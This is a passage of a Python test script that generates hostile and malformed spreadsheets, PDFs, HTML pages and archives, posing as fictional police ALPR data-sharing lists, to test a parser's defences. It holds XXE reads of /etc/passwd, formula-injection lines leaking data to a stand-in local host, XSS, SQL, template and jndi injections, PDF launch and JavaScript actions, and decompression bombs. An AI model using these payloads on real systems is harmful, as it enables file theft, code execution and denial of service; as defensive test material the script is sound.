"""Files that nobody should send, made anew each time: `python tests/bad_files.py FOLDER`.

Each says what it is and what a reader owes: rows, a refusal in three lines, or for a file that was cut
off rows with a word about what is missing. The same script gives the same bytes: no clock, no chance.
The base files are lists in the layouts of real records with made-up agencies; no library writes them, so
that they can be broken anywhere.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import struct
import sys
import zlib
from dataclasses import dataclass, replace
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Literal
from xml.sax.saxutils import escape

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator, Sequence

Expected = Literal["rows", "refused", "noted", "either"]


@dataclass(frozen=True)
class BadFile:
    """One file of the corpus: how it is made, and what is owed to who reads it.

    `expected` is `rows`, `refused`, `noted` (a refusal, or rows with a word about what is missing) or
    `either`; `rows` how many where that is certain; `forbidden` what may stand nowhere in an output.
    """

    name: str
    what: str
    expected: Expected
    make: Callable[[Path], object]
    rows: int | None = None
    forbidden: tuple[str, ...] = ()


def write_corpus(folder: Path) -> list[BadFile]:
    """Make all files in a folder, each in a folder of its own."""
    for bad in CORPUS:
        write(bad, folder)
    return CORPUS


def write(bad: BadFile, folder: Path) -> Path:
    """Make one file, in a folder of its own, and give its path."""
    home = folder / f"{CORPUS.index(bad):03}"
    home.mkdir(parents=True)
    path = home / bad.name
    bad.make(path)
    return path


def saved(content: Callable[..., bytes], *given: object) -> Callable[[Path], object]:
    """Give a maker that saves what a function gives."""
    return lambda path: path.write_bytes(content(*given))


# --- names ---

_STARTS = ("Ash", "Birch", "Cedar", "Clear", "Deer", "Eagle", "Elm", "Fox", "Glen", "Hazel", "Iron", "Laurel", "Maple")
_ENDS = ("brook", "dale", "field", "haven", "hurst", "ton", "ville", "wick")
PLACES = [f"{start}{end}" for start in _STARTS for end in _ENDS]
NAMES = [f"{place} Police Department" for place in PLACES]
OWNER = "Exampleville Police Department"
LISTED = 40
"""Names in a base file."""
CITIES = [f"{place} CA PD" for place in PLACES[:LISTED]]

SECRET = "root:x:0:0"  # noqa: S105  (the first letters of the file that an XML entity asks for)
_EXTERNAL_ENTITIES = (
    '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://127.0.0.1:9/x">'
    '<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/x.dtd"> %dtd;]>'
)
_LAUGHS = "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10 if level else "laughing out loud "}">' for level in range(10)
)
_ENTITY_BOMB = f"<!DOCTYPE x [{_LAUGHS}]>"

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Oakdale Police Department")',
    "+1+1 Oakdale Police Department",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 Oakdale Police Department",
    '=IMPORTXML("http://127.0.0.1:9/","//a") Police',
    '=WEBSERVICE("http://127.0.0.1:9/") Police',
)
HOSTILE = (
    "<script>alert(1)</script> Police Department",
    '"><img src=x onerror=alert(1)> Police Department',
    "Oakdale</title><svg onload=alert(1)> PD",
    "</script><script>alert(1)//</script> Police Department",
    "javascript:alert(1) Police Department",
    "{{7*7}} Police Department {% raw %}",
    "${7*7} Police Department ${jndi:ldap://127.0.0.1:9/x}",
    "`$(touch made)` Police Department",
    "'; DROP TABLE agencies; -- Police Department",
    "$\\frac{1}{0}$ Police Department $\\input{/etc/passwd}$",
    "[bold red]Oakdale[/] Police Department [/nothing]",
    "%s%n%x {0} {name!r} Police Department",
    "../../../../etc/passwd Police Department",
    "<!--#exec cmd='ls'--> Police Department",
)
UNSEEN = (
    "Oak\u202edale\u202c Police Department",
    "Oak\u2066dale\u2069 Police Department",
    "Oak\u200b\u200c\u200d\ufeffdale Police Department",
    "Oak\u00addale Police Department",
    "Oak\u001b[31mdale\u001b]0;title\u0007 Police Department",
    "Oak\u0085dale\u2028Police\u2029Department",
    "Oak\ue000dale\ufdd0\U000e0041\U0010ffff Police Department",
    "Oak" + "\u0301" * 400 + "dale Police Department",
    "\u041e\u0430kdale Police Department",
)

# --- text tables ---


def csv_of(rows: Iterable[Sequence[str]], end: str = "\n") -> bytes:
    """Give rows as CSV, quoted where a cell needs it."""
    lines = (",".join(map(_quoted, cells)) + end for cells in rows)
    return "".join(lines).encode()


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if set(text) & set('",\n\r') else text


def _rows(names: Iterable[str] = NAMES[:LISTED]) -> list[tuple[str, str, str]]:
    """Give the rows of a table of agencies."""
    return [("Agencies we share ALPR data with", "City", "State"), *((name, "Oakdale", "CA") for name in names)]


def table(names: Iterable[str] = NAMES[:LISTED], end: str = "\n") -> bytes:
    """Give a table of agencies as CSV."""
    return csv_of(_rows(names), end)


csv_base = cache(table)


def _cut(whole: Callable[[], bytes], tenth: int) -> bytes:
    return whole()[: len(whole()) * tenth // 10]


def _lines_left(tenth: int) -> int:
    """Count the agencies in a table that was cut off, the last one perhaps not whole."""
    return len(_cut(csv_base, tenth).splitlines()) - 1


def _many(count: int) -> list[str]:
    return [f"{NAMES[number % len(NAMES)]} {number}" for number in range(count)]


def _wide() -> list[tuple[str, ...]]:
    """Give nine agencies with 16,383 empty cells behind each."""
    head = ("Agency", *(f"Column {number}" for number in range(1, 16_384)))
    return [head, *((name, *[""] * 16_383) for name in NAMES[:9])]


def _four_times() -> list[tuple[str, ...]]:
    return [(name,) * 4 for name in NAMES[:LISTED]]


def _ragged() -> bytes:
    return csv_of([("Agency", "City", "State"), *((name, *"x" * (i % 3)) for i, name in enumerate(NAMES[:LISTED]))])


def _mixed(text: str) -> bytes:
    lines = text.splitlines(keepends=True)
    return b"".join(line.encode("cp1252" if number % 2 else "utf-8") for number, line in enumerate(lines))


def _long_words() -> list[tuple[str, ...]]:
    """Give 2,000 agencies with 19 cells of 299 letters each, that could be the start of an e-mail address."""
    head = ("Agency", *(f"Column {number}" for number in range(19)))
    return [head, *((name, *[f"{name.split()[0]:x<299}"] * 19) for name in _many(2000))]


def _other_pairs(count: int) -> Iterator[tuple[str, str]]:
    yield "source", "target"
    yield from ((f"Oak {number} PD", f"Elm {number} PD") for number in range(count))


def _noise() -> bytes:
    """Give 5,000 bytes that look like chance."""
    value, found = 1, bytearray()
    for _ in range(5000):
        value = value * 1103515245 + 12345 & 0x7FFFFFFF
        found.append(value >> 16 & 255)
    return bytes(found)


TELLING = ("7ABC123", "8XYZ987", "1HGCM82633A004352", "2FMDK3GC4BBA12345", "j.doe@mail.example")
PRIVATE = (*TELLING, "jdoe_42", "msmith_7", "Zebulon", "555-0100-777")
"""What may stand in no output; the first of it can be told without a column name."""
PRIVATE_HEAD = ("Agency Name", "License Plate", "VIN", "Email", "User Name", "Officer", "Phone")


def _private_rows() -> list[tuple[str, ...]]:
    plates, vins, users = TELLING[:2], TELLING[2:4], PRIVATE[5:7]
    return [
        (name, plates[i % 2], vins[i % 2], TELLING[4], users[i % 2], "Quincy Zebulon", "555-0100-777")
        for i, name in enumerate(NAMES[:LISTED])
    ]


# --- zip, XLSX, ODS ---


@dataclass(frozen=True)
class Member:
    """A packed file: what the archive says of it, and its bytes as they are in the archive."""

    name: str
    packed: bytes
    size: int
    crc: int
    flags: int = 0


def member(name: str, content: bytes, flags: int = 0) -> Member:
    """Pack one file."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, press.compress(content) + press.flush(), len(content), zlib.crc32(content), flags)


def repeated(name: str, before: bytes, block: bytes, times: int, after: bytes = b"") -> Member:
    """Pack a file with a block that stands many times, without ever holding it whole."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = press.compress(before) + press.flush(zlib.Z_FULL_FLUSH)
    one = press.compress(block) + press.flush(zlib.Z_FULL_FLUSH)
    packed = start + one * times + press.compress(after) + press.flush()
    crc = zlib.crc32(before)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    return Member(name, packed, len(before) + len(block) * times + len(after), zlib.crc32(after, crc))


def archive(members: Iterable[Member], *, overlap: bool = False) -> bytes:
    """Write an archive; with `overlap` all its entries point to the first file."""
    body, listing, count = b"", b"", 0
    for one in members:
        name = one.name.encode()
        sizes = struct.pack("<IIIHH", one.crc, len(one.packed), one.size, len(name), 0)
        at = 0 if overlap else len(body)
        if not (overlap and body):
            body += struct.pack("<4sHHHHH", b"PK\x03\x04", 20, one.flags, 8, 0, 0x21) + sizes + name + one.packed
        listing += struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, one.flags, 8, 0, 0x21) + sizes
        listing += struct.pack("<HHHII", 0, 0, 0, 0, at) + name
        count += 1
    return body + listing + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(listing), len(body), 0)


_OFFICE = "http://schemas.openxmlformats.org"
_SHEET = f'<worksheet xmlns="{_OFFICE}/spreadsheetml/2006/main"><sheetData>'
_SHEET_END = "</sheetData></worksheet>"


def cell(text: str, at: str, formula: str = "") -> str:
    """Give the XML of a cell of text, or of a formula and the text that it gave last."""
    if formula:
        return f'<c r="{at}" t="str"><f>{escape(formula)}</f><v>{escape(text)}</v></c>'
    return f'<c r="{at}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def sheet(rows: Iterable[Sequence[str]]) -> bytes:
    """Give the XML of a sheet."""
    lines = (
        f'<row r="{number}">{"".join(cell(text, f"{_letters(i)}{number}") for i, text in enumerate(cells))}</row>'
        for number, cells in enumerate(rows, start=1)
    )
    return f"{_SHEET}{''.join(lines)}{_SHEET_END}".encode("utf-8", "surrogatepass")


def _letters(index: int) -> str:
    return (_letters(index // 26 - 1) if index > 25 else "") + chr(65 + index % 26)


def xlsx(
    content: bytes | Member, *more: Member, flags: int = 0, part: str = "worksheets/sheet1.xml", times: int = 1
) -> bytes:
    """Give a workbook with one sheet, listed so many times, and any other packed files."""
    relation = f"{_OFFICE}/officeDocument/2006/relationships"
    package = f"{_OFFICE}/package/2006/relationships"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{_OFFICE}/package/2006/content-types"><Default Extension="xml" '
        'ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
        'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{relation}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_OFFICE}/spreadsheetml/2006/main" xmlns:r="{relation}"><sheets>'
        + "".join(f'<sheet name="List{i or ""}" sheetId="{i + 1}" r:id="rId1"/>' for i in range(times))
        + "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{relation}'
        f'/worksheet" Target="{part}"/><Relationship Id="rId2" Type="{relation}/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>',
    }
    first = content if isinstance(content, Member) else member(f"xl/{part}", content, flags)
    return archive([*(member(name, text.encode(), flags) for name, text in parts.items()), first, *more])


@cache
def xlsx_base() -> bytes:
    """Give a Flock network export as XLSX: LISTED organizations, each shared with both ways."""
    head = ("Organization Name", "Networks Shared With Me", "Networks I'm Sharing")
    return xlsx(sheet([head, *((name, name, "Exampleville CA PD") for name in CITIES)]))


def ods(rows: str) -> bytes:
    """Give an ODS workbook with the XML of its rows."""
    spaces = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    content = (
        f'<office:document-content{spaces}><office:body><office:spreadsheet><table:table table:name="List">'
        f"{rows}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = {"mimetype": kind, "content.xml": content, "META-INF/manifest.xml": manifest}
    return archive(member(name, text.encode()) for name, text in parts.items())


def ods_row(cells: Iterable[str], times: int | str = 1, more: str = "") -> str:
    """Give the XML of an ODS row."""
    inner = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{escape(text)}</text:p></table:table-cell>'
        for text in cells
    )
    return f'<table:table-row {more} table:number-rows-repeated="{times}">{inner}</table:table-row>'


@cache
def ods_base() -> bytes:
    """Give a table of agencies as ODS: LISTED rows."""
    return ods("".join(map(ods_row, _rows())))


# --- HTML ---


def portal(names: Iterable[str], head: str = "", body: str = "", before: str = "<!DOCTYPE html>") -> bytes:
    """Give a Flock transparency portal page."""
    facts = {
        "What's Detected": "License Plates, Vehicles",
        "Data retention (in days)": "30 days",
        "Number of LPR and other cameras": "13",
        "Organizations granted access to Exampleville CA PD data": ", ".join(escape(name) for name in names),
        "Vehicles detected in the last 30 days": "1,234,567",
    }
    boxes = "".join(
        f'<div class="box"><div class="row"><div class="label col-12">{label}</div></div>'
        f'<div class="row"><div class="value col-12">{value}</div></div></div>'
        for label, value in facts.items()
    )
    return (
        f'{before}<html lang="en"><head><meta charset="utf-8"><title>Flock Safety - Exampleville CA PD Transparency '
        f"Portal</title>{head}</head><body><header><h1>Exampleville CA PD</h1><h4>Transparency Portal</h4><h6>Last "
        'Updated: <span title="2026-01-25T10:37:49.466Z">Sun Jan 25 2026</span></h6></header><div id="reportContent" '
        f'class="container"><h6 class="sectionHeader">Usage</h6>{boxes}</div>{body}</body></html>'
    ).encode("utf-8", "surrogatepass")


@cache
def html_base() -> bytes:
    """Give a whole portal page: LISTED organizations."""
    return portal(CITIES)


# --- PDF ---

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
_HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def pdf(objects: Sequence[bytes], trailer: bytes = b"", *, loop: bool = False) -> bytes:
    """Write a PDF whose first object is its catalog; with `loop` its listing of objects goes on in itself."""
    body, listing = _HEAD, b"0000000000 65535 f \n"
    for number, one in enumerate(objects, start=1):
        listing += b"%010d 00000 n \n" % len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    at, size = len(body), len(objects) + 1
    trailer += b" /Prev %d" % at if loop else b""
    body += b"xref\n0 %d\n%strailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size, listing, size, trailer)
    return body + b"startxref\n%d\n%%%%EOF\n" % at


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Give a stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def document(
    contents: Sequence[bytes], box: str = "0 0 595 842", catalog: str = "", extra: Sequence[bytes] = ()
) -> list[bytes]:
    """Give the objects of a document: catalog, page tree, font, then a page and its content each, then others."""
    first = 4
    kids = " ".join(f"{first + 2 * i} 0 R" for i in range(len(contents)))
    tree = f"<< /Type /Pages /Kids [{kids}] /Count {len(contents)} /MediaBox [{box}] >>"
    objects = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(), tree.encode(), _FONT]
    for index, content in enumerate(contents):
        objects.append(page(first + 2 * index + 1))
        objects.append(content if content.startswith(b"<<") else stream(content))
    return [*objects, *extra]


def page(content: int, resources: str = "", more: str = "") -> bytes:
    """Give a page object."""
    return (
        f"<< /Type /Page /Parent 2 0 R /Contents {content} 0 R "
        f"/Resources << /Font << /F1 3 0 R >> {resources} >> {more} >>"
    ).encode()


def show(lines: Iterable[tuple[float, float, str]], size: int = 10) -> bytes:
    """Give the content of a page: text and where it stands, in points."""
    return b"\n".join(
        b"BT /F1 %d Tf 1 0 0 1 %.1f %.1f Tm (%s) Tj ET" % (size, x, y, _pdf_text(text)) for x, y, text in lines
    )


def _pdf_text(text: str) -> bytes:
    return text.encode("cp1252", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


_HEADING = (231.8, 748.0)
_SHARED = 24
_RECEIVED = 8
_PAIRS = 3
_BESIDE = _RECEIVED + _PAIRS
IN_REPORT = _SHARED + _BESIDE
"""Rows in the base report."""


def report(shared: Sequence[str] = tuple(NAMES[:_SHARED])) -> list[bytes]:
    """Give the pages of a Vigilant Agency Data Sharing Report, in the layout of 2025."""
    pages = [*_two_columns(shared), _received(), _hot_lists()]
    return [show([*lines, *_around(number, len(pages))]) for number, lines in enumerate(pages, start=1)]


def _around(number: int, count: int) -> Iterator[tuple[float, float, str]]:
    yield from ((264.1, 814.0, "Agency"), (225.6, 796.0, "Data Sharing Report"))
    yield from ((6.8, 12.0, "Date Created: 03-11-25"), (225.0, 12.0, "VehicleManager Agency Data Sharing Report"))
    yield 520.0, 12.0, f"Page {number} of {count}"


def _owner_line(verb: str) -> tuple[float, float, str]:
    way = "Sharing its Detection data with" if verb == "Sharing" else "receiving Detection data from"
    return 74.2, 716.0, f"The {OWNER} Agency is {way} the following Agencies:"


def _two_columns(names: Sequence[str]) -> Iterator[list[tuple[float, float, str]]]:
    for start in range(0, len(names), _SHARED):
        here = names[start : start + _SHARED]
        first = [(*_HEADING, "Detections Shared"), _owner_line("Sharing")] if not start else []
        yield [*first, *((325.0 if i % 2 else 68.0, 688.0 - 27.5 * (i // 2), name) for i, name in enumerate(here))]


def _received() -> list[tuple[float, float, str]]:
    heads = [(174.0, 664.0, "Agency"), (419.0, 664.0, "City"), (521.0, 664.0, "State")]
    rows = [
        one
        for i, place in enumerate(PLACES[:_RECEIVED])
        for one in (
            (125.0, 642.0 - 20.6 * i, f"{place} Police Department"),
            (405.0, 642.0 - 20.6 * i, place),
            (526.0, 642.0 - 20.6 * i, "CA"),
        )
    ]
    return [(*_HEADING, "Detections Received"), _owner_line("receiving"), *heads, *rows]


def _hot_lists() -> list[tuple[float, float, str]]:
    rows = [
        one
        for i, name in enumerate(NAMES[:_PAIRS])
        for one in ((68.0, 560.0 - 27.5 * i, name), (322.0, 560.0 - 27.5 * i, f"LEARN_{name}"))
    ]
    return [
        (*_HEADING, "Hot List Sharing"),
        (68.0, 700.0, "None"),
        (231.8, 650.0, "Hot List Received"),
        (68.0, 600.0, "Agency"),
        (322.0, 600.0, "Hot List"),
        *rows,
    ]


@cache
def pdf_base() -> bytes:
    """Give a whole report: IN_REPORT rows."""
    return pdf(document(report()))


def _locked_pdf() -> bytes:
    locked = b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <%s> /U <%s> >> /ID [<%s> <%s>]" % (
        b"1f" * 32,
        b"2e" * 32,
        b"3d" * 16,
        b"3d" * 16,
    )
    return pdf(document(report()), locked)


def _unknown_lock() -> bytes:
    return pdf(document(report()), b"/Encrypt << /Filter /Somebody.DRM /V 4 >> /ID [<00> <00>]")


def _busy_pdf() -> bytes:
    """Give a report that would run, open, fetch and save things."""
    actions = (
        "/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9/'\\); app.alert\\(1\\)) >> "
        "/AA << /WC << /S /Launch /F (calc.exe) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS "
        "(this.submitForm\\('http://127.0.0.1:9/'\\)) >>] >> /EmbeddedFiles << /Names [(../../made.txt) "
        "<< /Type /Filespec /F (../../made.txt) /EF << /F 10 0 R >> >>] >> >> "
        "/AcroForm << /Fields [] /XFA 11 0 R >>"
    )
    link = (
        "/AA << /O << /S /URI /URI (http://127.0.0.1:9/) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 "
        "842] /A << /S /URI /URI (http://127.0.0.1:9/) >> >> << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
        "/FS << /Type /Filespec /F (made.txt) /EF << /F 10 0 R >> >> >>]"
    )
    extra = [stream(b"made", b"/Type /EmbeddedFile"), stream(f"{_EXTERNAL_ENTITIES}<xdp>&file;</xdp>".encode())]
    objects = document(report(), catalog=actions, extra=extra)
    objects[3] = page(5, more=link)
    return pdf(objects)


def _hostile_pdf() -> bytes:
    return pdf(document(report([*HOSTILE, *FORMULAS])))


def _mapped_pdf() -> bytes:
    """Give a report whose font says that some letters are others: unseen ones, and halves of letters."""
    pairs = {"x": "202E", "q": "0000", "z": "D800", "j": "200B", "Q": "001B", "Z": "FFFE"}
    lines = "".join(f"<{ord(letter):02x}> <{means}>\n" for letter, means in pairs.items())
    plain = "".join(f"<{code:02x}> <{code:04x}>\n" for code in range(32, 127) if chr(code) not in pairs)
    count = len(pairs) + 95 - len(pairs)
    cmap = (
        "/CIDInit /ProcSet findresource begin begincmap /CMapName /X def /CMapType 2 def 1 begincodespacerange <00> "
        f"<ff> endcodespacerange {count} beginbfchar\n{lines}{plain}endbfchar endcmap end"
    )
    names = [f"{place[:3]}xqzjQZ{place[3:]} Police Department" for place in PLACES[:_SHARED]]
    objects = document(report(names), extra=[stream(cmap.encode())])
    objects[2] = _FONT[:-2] + b"/ToUnicode %d 0 R >>" % len(objects)
    return pdf(objects)


def _pages(kids: bytes, count: int) -> bytes:
    """Give a report with another page tree."""
    objects = document(report())
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>" % (kids, count)
    return pdf(objects)


_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"


def _forms(count: int, *, loop: bool = False) -> bytes:
    """Give a page that draws a form that draws the next one twice, and so on; with `loop` the last draws itself."""
    last = 5 + count
    forms = [stream(b"/X Do /X Do", _FORM % min(number + 1, last)) for number in range(6, last)]
    forms.append(stream(b"/X Do /X Do" if loop else b"0 0 m", _FORM % last))
    objects = document([b"/X Do"], extra=forms)
    objects[3] = page(5, "/XObject << /X 6 0 R >>")
    return pdf(objects)


def _object_stream_loop() -> bytes:
    """Give a PDF whose catalog stands in a stream of objects that stands in itself, and goes on in itself."""
    inner = b"1 0 2 40 << /Type /Catalog /Pages 2 0 R >>".ljust(48) + b"<< /Type /Pages /Kids [] /Count 1 >>"
    holder = b"3 0 obj\n" + stream(inner, b"/Type /ObjStm /N 2 /First 9 /Extends 3 0 R") + b"\nendobj\n"
    at = len(_HEAD) + len(holder)
    entries = b"".join(struct.pack(">BIB", *one) for one in ((0, 0, 255), (2, 3, 0), (2, 3, 1), (2, 3, 0), (1, at, 0)))
    table_of = stream(entries, b"/Type /XRef /W [1 4 1] /Size 5 /Root 1 0 R")
    return _HEAD + holder + b"4 0 obj\n" + table_of + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def _stream_bomb() -> bytes:
    """Give a page whose content unpacks to a gigabyte."""
    return pdf(document([_packed(b"BT /F1 9 Tf (Oakdale) Tj ET " * 40_000, 1000)]))


def _packed(block: bytes, times: int, more: bytes = b"") -> bytes:
    """Give a stream that unpacks to a block that stands many times."""
    press = zlib.compressobj(9)
    first = press.compress(block) + press.flush(zlib.Z_FULL_FLUSH)
    one = press.compress(block) + press.flush(zlib.Z_FULL_FLUSH)
    # The checksum at the end is left out: readers do without.
    return stream(first + one * (times - 1), b"/Filter /FlateDecode " + more)


def _pictures(pages: int, side: int, box: str = "0 0 595 842") -> bytes:
    """Give pages that are one white picture of so many dots a side."""
    size = side * side // 8
    block = b"\xff" * min(1 << 20, size)
    kind = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray"
    picture = _packed(block, -(-size // len(block)), kind % (side, side))
    objects = document([b"q 595 0 0 842 0 0 cm /I Do Q"] * pages, box, extra=[picture])
    for index in range(pages):
        objects[3 + 2 * index] = page(5 + 2 * index, f"/XObject << /I {len(objects)} 0 R >>")
    return pdf(objects)


def _cut_early() -> bytes:
    """Give a report made for the web, whose trailer stands in front, cut off after its first page."""
    objects = document(report())
    body = _HEAD + b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    for number, one in enumerate(objects[:5], start=1):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    return body


def _page_lost() -> bytes:
    return pdf_base().replace(b"\n7 0 obj", b"\n9 0 obj")


def _half_zeros() -> bytes:
    return _cut(pdf_base, 5).ljust(len(pdf_base()), b"\0")


def _crowded(count: int = 4000) -> bytes:
    """Give a report with so many names on one page."""
    lines = [(*_HEADING, "Detections Shared"), _owner_line("Sharing")]
    lines += [(60.0 + 255 * (i % 2), 690.0 - 0.32 * (i // 2), NAMES[i % len(NAMES)]) for i in range(count)]
    return pdf(document([show([*lines, *_around(1, 1)], 1)]))


def _many_pairs(pages: int = 100, pairs: int = 50) -> bytes:
    """Give a report with a hot list of so many pages, after a page of LISTED detections."""
    found = report()[:1]
    for number in range(pages):
        heads = [(231.8, 740.0, "Hot List Received"), (68.0, 720.0, "Agency"), (322.0, 720.0, "Hot List")]
        names = (NAMES[(number * pairs + i) % len(NAMES)] for i in range(pairs))
        cells = [(x, 700.0 - 13 * i, name) for i, name in enumerate(names) for x in (68.0, 322.0)]
        found.append(show([*(heads if not number else []), *cells, *_around(number + 2, pages + 1)], 9))
    return pdf(document(found))


def _strewn() -> bytes:
    """Give a report with names where no page is, in letters of no size, and turned in ways that none can be."""
    odd = (
        b"1e38 0 0 1e38 68 600",
        b"0 0 0 0 68 600",
        b"1 1 1 1 68 600",
        b"nan nan nan nan nan nan",
        b"1 0 0 1 1e30 -1e38",
    )
    sizes = (b"1e38", b"0", b"-10", b"99999999999999999999")
    texts = [(b"10", matrix) for matrix in odd] + [(size, b"1 0 0 1 68 500") for size in sizes]
    strewn = b"".join(b"\nBT /F1 %s Tf %s Tm (Oakdale Police Department) Tj ET" % text for text in texts)
    return pdf(document([page + (strewn if not at else b"") for at, page in enumerate(report())]))


def _painted(content: bytes, kind: str, *extra: bytes) -> bytes:
    """Give a page without text that paints with what stands in other objects."""
    objects = document([content], extra=extra)
    objects[3] = page(5, f"/{kind} << /X 6 0 R >>")
    return pdf(objects)


def _tiles() -> bytes:
    """Give a page that is filled with tiles, a thousand to the point each way."""
    tile = b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << >>"
    return _painted(b"/Pattern cs /X scn 0 0 595 842 re f", "Pattern", stream(b"0 0 1 1 re f", tile))


def _shades() -> bytes:
    """Give a page that is shaded 20,000 times by a sum for each dot."""
    shading = b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Matrix [595 0 0 842 0 0] /Function 7 0 R >>"
    function = stream(
        b"{ %s 3 copy pop }" % (b"dup mul " * 400), b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]"
    )
    return _painted(b"/X sh " * 20_000, "Shading", shading, function)


def _letter_of_itself() -> bytes:
    """Give a page in a font whose one letter is drawn with ten of itself."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [.001 0 0 .001 0 0] /FirstChar 97 "
        b"/LastChar 97 /Widths [1000] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> "
        b"/Resources << /Font << /X 6 0 R >> >> >>"
    )
    text = b"BT /X 1 Tf (aaaaaaaaaa) Tj ET"
    objects = document([text], extra=[font, stream(b"1000 0 d0 " + text)])
    objects[3] = page(5).replace(b"/F1 3", b"/X 6")
    return pdf(objects)


def _deep_tree(levels: int = 20_000) -> bytes:
    """Give a page under 20,000 page trees."""
    trees = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (i + 3, i + 1) for i in range(levels)]
    leaf = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (levels + 1)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *trees, leaf])


def _image_bomb(side: int = 50_000) -> bytes:
    """Give a page that is one picture of so many dots a side, in color."""
    kind = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    picture = _packed(b"\xff" * (1 << 20), -(-3 * side * side // (1 << 20)), kind % (side, side))
    return _painted(b"q 595 0 0 842 0 0 cm /X Do Q", "XObject", picture)


# --- other makers ---


def _compound(stream_name: str) -> bytes:
    """Give an OLE2 file with one named stream: how a locked XLSX, or an old XLS, is kept."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    head += b"\xff\xff\xff\xff" * 109
    table_of = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff\xff\xff\xff" * 126

    def entry(name: str, kind: int, child: int) -> bytes:
        coded = name.encode("utf-16-le")
        return (
            coded.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(coded) + 2, kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
            + bytes(36)
            + struct.pack("<IQ", 0xFFFFFFFE, 0)
        )

    listing = entry("Root Entry", 5, 1) + entry(stream_name, 2, 0xFFFFFFFF) + bytes(256)
    return head[:512] + table_of + listing


def _picture_file() -> bytes:
    """Give a PNG of one dot."""
    return base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGP6DwABBQECz6AuzQAAAABJRU5ErkJggg=="
    )


def _zip_of_zips(depth: int = 5, wide: int = 16) -> bytes:
    """Give zips in zips in zips, at the bottom 4 MB of zeros each: four terabytes."""
    inner = archive([member("0.dll", bytes(4_000_000))])
    for level in range(depth):
